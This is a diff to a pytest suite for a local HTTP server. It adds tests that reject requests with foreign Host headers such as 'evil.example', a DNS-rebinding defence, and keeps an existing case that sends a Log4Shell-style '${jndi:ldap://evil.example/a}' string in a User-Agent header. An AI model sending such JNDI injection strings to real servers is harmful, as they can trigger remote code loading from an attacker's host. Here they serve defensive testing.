@@ -377,7 +377,6 @@ def test_what_is_no_http_request_is_refused_and_nothing_after_it_is_answered(exc
         pytest.param(HEALTH + b"".join(b"X-%d: a\r\n" % i for i in range(101)) + b"\r\n", id="101 headers"),
         pytest.param(HEALTH + b"User-Agent: ${jndi:ldap://evil.example/a}\r\n\r\n", id="a formula"),
         pytest.param(HEALTH + b"X-A: a\r\n b\r\n\r\n", id="a folded header"),
-        pytest.param(b"GET /health HTTP/1.1\r\nHost: evil.example/x?y#z\r\nConnection: close\r\n\r\n", id="a host with a path"),
         pytest.param(b"GET /health HTTP/1.0\r\n\r\n", id="HTTP/1.0"),
         pytest.param(b"GET /health HTTP/1.1\nHost: localhost\nConnection: close\n\n", id="line feeds alone, as RFC 9112, 2.2 lets them be"),
     ],
@@ -386,6 +385,20 @@ def test_an_odd_request_that_is_one_gets_its_one_answer(exchange: Exchange, requ
     replies = exchange(request_sent)
     assert replies.statuses == [200]
     assert replies.received.endswith(b'{"status":"ok"}')
+
+
+@pytest.mark.parametrize("host", ["evil.example", "evil.example:8000", "evil.example/x?y#z", "localhost.evil.example"])
+def test_on_loopback_the_server_answers_to_names_of_this_machine_alone(exchange: Exchange, host: str):
+    """A page that lets its own name point to this machine cannot read the documents."""
+    replies = exchange(f"GET /documents HTTP/1.1\r\nHost: {host}\r\n\r\n".encode() + HEALTH + b"\r\n")
+    assert replies.statuses == [421]
+    assert b"car-t" not in replies.received
+
+
+@pytest.mark.parametrize("host", ["localhost", "LOCALHOST:80", "127.0.0.1:8000", "[::1]", "[::1]:8000"])
+def test_the_names_of_this_machine_are_answered_to(exchange: Exchange, host: str):
+    replies = exchange(f"GET /health HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
+    assert replies.statuses == [200]
 
 
 @pytest.mark.parametrize(
